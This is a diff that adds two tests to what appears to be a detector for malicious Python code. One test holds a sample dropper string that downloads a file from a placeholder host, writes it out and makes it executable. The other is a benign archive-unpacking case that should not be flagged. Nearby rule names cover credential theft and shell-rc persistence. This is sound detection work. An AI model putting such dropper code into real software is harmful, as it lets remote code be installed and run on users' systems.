@@ -188,3 +188,29 @@ def test_shell_rc_files_written_in_a_loop_and_a_chat_client_rewritten():
     """
     assert _lines(source, "persistence.write-shell-rc") == [6]
     assert _lines(source, "credentials.token-theft") == [9]
+
+
+def test_dropper_download_and_run_a_mode_with_an_execute_bit_or_ed_in_makes_the_fetched_file_runnable():
+    source = """
+    import os, stat, urllib.request
+    data = urllib.request.urlopen('https://files.example/agent').read()
+    with open(target, 'wb') as out:
+        out.write(data)
+    os.chmod(target, os.stat(target).st_mode | stat.S_IXUSR)
+    """
+    assert _lines(source, "dropper.download-and-run") == [4, 6]
+
+
+def test_a_fetched_archive_extracted_with_its_members_own_modes_is_no_dropper():
+    # What an unpacker does: each member written and given back the permissions the archive recorded.
+    source = """
+    import os, urllib.request, zipfile
+    with urllib.request.urlopen(url) as response:
+        blob = response.read()
+    for member in members:
+        with open(destination, 'wb') as out:
+            out.write(blob)
+        os.chmod(destination, member.mode & 0o777)
+        os.chmod(destination, mode)
+    """
+    assert "dropper.download-and-run" not in rules(source)
